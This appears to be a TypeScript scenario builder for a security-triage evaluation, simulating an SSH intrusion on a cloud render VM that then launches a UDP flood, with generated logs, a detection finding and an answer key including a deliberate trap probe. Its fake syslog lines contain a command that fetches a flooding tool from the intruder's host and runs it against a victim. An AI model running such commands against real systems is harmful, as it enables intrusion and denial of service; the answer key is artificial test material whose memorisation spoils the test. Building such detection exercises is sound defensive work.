import { makeEnvironment, makeVm } from "./environment.js";
import type { Expected } from "./expected.js";
import { conversation, HOUR, MINUTE } from "./kit.js";
import { LogBook } from "./log-book.js";
import { syslogLine, TABLES } from "./log-entries.js";
import { addBackgroundNoise } from "./noise.js";
import { sccNotification } from "./notification.js";
import type { Rng } from "./prng.js";
import { type ScenarioDefinition, scenarioFiles } from "./scenario.js";
import { addFeedNoise, StixBundle } from "./stix.js";

const EVENT_TIME = "2025-08-21T02:41:55.208Z";
const VM_NAME = "render-node-3";
const VICTIM = "203.0.113.77";
const INTRUDER = "192.0.2.61";
const TOOL = "/tmp/.x/udpf";

/**
 * Event Threat Detection reports outgoing denial-of-service traffic. Like Google's own
 * Event Threat Detection samples, the finding's resource is the project (its number), and
 * the VM is named only inside sourceProperties (`properties.instanceDetails`). The render
 * VM, entered over SSH with a reused password an hour earlier, floods the victim over UDP
 * for 35 minutes: gigabytes to the one address the finding names.
 */
function build(rng: Rng): Map<string, string> {
  const T = Date.parse(EVENT_TIME);
  const vm = makeVm(rng, {
    name: VM_NAME,
    role: "build",
    host: 23,
    zone: "us-east1-b",
    externalIp: "34.75.19.201",
    sshExposed: true,
  });
  const vms = [
    vm,
    makeVm(rng, { name: "render-node-1", role: "build", host: 21, zone: "us-east1-b" }),
    makeVm(rng, { name: "render-node-2", role: "build", host: 22, zone: "us-east1-b" }),
    makeVm(rng, { name: "render-queue", role: "etl", host: 10, zone: "us-east1-b" }),
  ];
  const env = makeEnvironment(rng, {
    projectId: "lumen-render-prod",
    domain: "lumen-studio.com",
    vms,
    buckets: ["lumen-render-frames", "lumen-render-assets"],
  });
  const book = new LogBook();
  addBackgroundNoise(book, env, { start: T - 8 * HOUR, end: T + 2 * HOUR }, rng.fork("noise"));

  const signal = rng.fork("signal");
  const log = (time: number, program: string, message: string, pid?: number) =>
    book.add(TABLES.syslog, syslogLine(signal, { project: env.project, time, vm, program, pid, message }));
  const login = T - 64 * MINUTE;
  log(login, "sshd", `Accepted password for render from ${INTRUDER} port 50412 ssh2`, 22114);
  log(login + 1_000, "systemd-logind", "New session 412 of user render.", 611);
  log(login + 40_000, "bash", `render: wget -q http://${INTRUDER}/x/udpf -O ${TOOL}`, 22160);
  log(login + 52_000, "bash", `render: chmod +x ${TOOL}; nohup ${TOOL} ${VICTIM} 80 &`, 22160);

  conversation(book, env, signal, {
    vm,
    localPort: 41733,
    remoteIp: VICTIM,
    remotePort: 80,
    start: T - 3 * MINUTE,
    durationMs: 35 * MINUTE,
    intervalMs: 30_000,
    bytesOut: [95_000_000, 130_000_000],
    bytesIn: [0, 0],
    protocol: 17,
    location: { continent: "Asia", country: "sgp", city: "Singapore", asn: 64500 },
  });

  const notification = sccNotification(rng.fork("finding"), env, {
    source: "eventThreatDetection",
    category: "Outgoing DoS",
    findingClass: "THREAT",
    severity: "HIGH",
    eventTime: EVENT_TIME,
    resource: {
      name: `//cloudresourcemanager.googleapis.com/projects/${env.project.number}`,
      type: "google.cloud.resourcemanager.Project",
      displayName: env.project.id,
    },
    externalUri: `https://console.cloud.google.com/home?project=${env.project.id}`,
    description: "A VM sent traffic that looks like a denial-of-service attack against an external address.",
    finding: {
      sourceProperties: {
        detectionCategory: { ruleName: "outgoing_dos" },
        properties: {
          instanceDetails: `/projects/${env.project.id}/zones/${vm.zone}/instances/${VM_NAME}`,
          network: { project: env.project.id },
          victimIp: VICTIM,
          protocol: "UDP",
        },
      },
      indicator: { ipAddresses: [VICTIM] },
      connections: [{ destinationIp: VICTIM, destinationPort: 80, sourceIp: vm.ip, protocol: "UDP" }],
      mitreAttack: { primaryTactic: "IMPACT", primaryTechniques: ["NETWORK_DENIAL_OF_SERVICE"] },
    },
  });

  const intel = new StixBundle(rng.fork("intel"), "2025-08-01T00:00:00.000Z", "Ferret Demo Threat Feed");
  addFeedNoise(intel, rng.fork("intel-noise"), "2025-05-01T00:00:00.000Z", new Set([VICTIM, INTRUDER]));

  const expected: Expected = {
    scenario: "outgoing-dos",
    category: "Outgoing DoS",
    verdict: "true_positive",
    acceptableVerdicts: ["true_positive"],
    requiredIocs: [{ type: "ip", value: VICTIM, why: "the flood's target, named by the finding" }],
    requiredEvidence: [
      {
        id: "flood",
        description: `${VM_NAME} sent gigabytes of UDP to ${VICTIM} for 35 minutes`,
        anyOf: [VICTIM],
      },
      { id: "the-vm", description: "the VM named inside sourceProperties", anyOf: [VM_NAME] },
    ],
    optionalEvidence: [
      { id: "entry", description: "the SSH login an hour before", anyOf: [INTRUDER] },
      { id: "tool", description: "the flooding tool", anyOf: [TOOL] },
    ],
    mitreTechniques: ["T1498"],
    probes: [
      {
        runbook: "vpc_flows_to_ip",
        params: { ip: VICTIM },
        window: { hoursBefore: 6, hoursAfter: 1 },
        expect: [VM_NAME, '"protocol":17'],
        why: "the finding's own target address, from the VM",
      },
      {
        runbook: "host_syslog",
        params: { instance: env.project.number },
        window: { hoursBefore: 6, hoursAfter: 1 },
        expect: [],
        rows: "none",
        trap: true,
        why: "the project number is not a VM name (the wrong-identifier trap)",
      },
      {
        runbook: "host_syslog_search",
        params: { instance: VM_NAME, term: "udpf" },
        window: { hoursBefore: 6, hoursAfter: 1 },
        expect: [TOOL, INTRUDER],
        why: "how the flood started",
      },
    ],
    story:
      `${VM_NAME} in ${env.project.id} was entered over SSH from ${INTRUDER} at ${new Date(login).toISOString().slice(11, 16)} UTC with the render account's password; ` +
      `the intruder fetched ${TOOL} and ran it against ${VICTIM}. For 35 minutes the VM sent ~100 MB of UDP every 30 seconds to that address. ` +
      `The finding's resource is the project (${env.project.number}); the VM is named only in sourceProperties.properties.instanceDetails.`,
  };
  return scenarioFiles({ notification, intel, expected, logs: book });
}

export const outgoingDos: ScenarioDefinition = {
  name: "outgoing-dos",
  seed: "ferret/outgoing-dos/v1",
  build,
};
